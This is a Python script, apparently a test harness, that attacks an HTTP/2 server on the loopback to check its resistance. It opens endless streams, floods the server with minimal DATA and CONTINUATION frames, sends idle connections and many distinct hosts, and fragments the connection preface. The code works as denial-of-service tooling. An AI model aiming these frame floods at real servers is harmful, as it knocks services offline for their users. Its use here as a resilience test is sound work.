#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""stranger.py ATTACK PORT COUNT [tls] - attacks an HTTP/2 server on the loopback as somebody who may connect.

An attack says `held` when all of it is under way, and goes on until the file $RELEASE is there. `pieces` sends the packet
in the file $PACKET.
"""
import os
import resource
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, SETTINGS, CONTINUATION = 0, 1, 4, 9
END_STREAM, END_HEADERS = 1, 4
STREAMS = 100  # of each connection


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(data):
    assert len(data) < 127
    return bytes([len(data)]) + data


def post(authority=b"victim.example", path=b"/"):
    """The header block of a POST announced as ILP; nothing of it enters a table."""
    return (b"\x83\x86\x04" + text(path) + b"\x01" + text(authority) + b"\x0f\x10" + text(b"application/octet-stream"))


def connect(port, tls, first=PREFACE + frame(SETTINGS, 0, 0)):
    end = socket.create_connection(("127.0.0.1", port))
    end.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if tls:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        end = context.wrap_socket(end)
    end.sendall(first)
    return end


def on_streams(port, tls, count, send):
    """SEND(end, number, stream) for COUNT streams, so many on each connection. Returns the connections."""
    ends = []
    for n in range(count):
        if n % STREAMS == 0:
            ends.append(connect(port, tls))
        send(ends[-1], n, 1 + 2 * (n % STREAMS))
    return ends


def streams(port, tls, count):
    """Requests that never end."""
    return on_streams(port, tls, count, lambda end, n, stream: end.sendall(frame(HEADERS, END_HEADERS, stream, post())))


def fronts(port, tls, count):
    """Requests of which the first byte of a Prepare has come, and no more."""
    return on_streams(port, tls, count, lambda end, n, stream: end.sendall(
        frame(HEADERS, END_HEADERS, stream, post()) + frame(DATA, 0, stream, b"\x0c")))


def names(port, tls, count):
    """Of all these requests no two name the same host and path."""
    return on_streams(port, tls, count, lambda end, n, stream: end.sendall(
        frame(HEADERS, END_HEADERS | END_STREAM, stream, post(b"h%d.example" % n, b"/p%d" % n))))


def connections(port, tls, count):
    """Connections in HTTP/2 on which nothing comes."""
    return [connect(port, tls) for _ in range(count)]


def splinters(port, tls, count):
    """COUNT frames, as small as frames can be, in as large segments as there are; and a header block that hardly goes on."""
    end, block = connect(port, tls), post()
    try:
        end.sendall(frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, 0, 1, b"\x0c") * count)
        end.sendall(frame(HEADERS, 0, 3, block[:1])
                    + b"".join(frame(CONTINUATION, 0, 3, block[i:i + 1]) for i in range(1, len(block)))
                    + frame(CONTINUATION, 0, 3) * count)
    except OSError:
        pass  # the server has had enough of it
    return [end]


def until_answered(end):
    """Reads until the first DATA is over."""
    got = b""
    while True:
        while len(got) < 9 or len(got) < 9 + int.from_bytes(got[:3], "big"):
            more = end.recv(1 << 16)
            if not more:
                raise OSError("closed without an answer")
            got += more
        if got[3] == DATA:
            return
        got = got[9 + int.from_bytes(got[:3], "big"):]


def pieces(port, tls, count):
    """COUNT connections with a packet each. The preface comes in pieces, the first of one byte, and no piece after it begins
    where a frame does. Each waits for its answer."""
    with open(os.environ["PACKET"], "rb") as file:
        packet = file.read()
    ends = []
    for _ in range(count):
        said = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, post()) + frame(DATA, END_STREAM, 1, packet)
        end = connect(port, tls, said[:1])
        cuts = (1, 28, 40, 50, 120, len(said))
        for begin, stop in zip(cuts, cuts[1:]):
            time.sleep(0.05)  # so that TCP sends each by itself
            end.sendall(said[begin:stop])
        until_answered(end)
        ends.append(end)
    return ends


ATTACKS = {f.__name__: f for f in (streams, fronts, names, connections, splinters, pieces)}

if __name__ == "__main__":
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    held = ATTACKS[sys.argv[1]](int(sys.argv[2]), "tls" in sys.argv[4:], int(sys.argv[3]))
    print("held", flush=True)
    while not os.path.exists(os.environ["RELEASE"]):
        time.sleep(0.05)
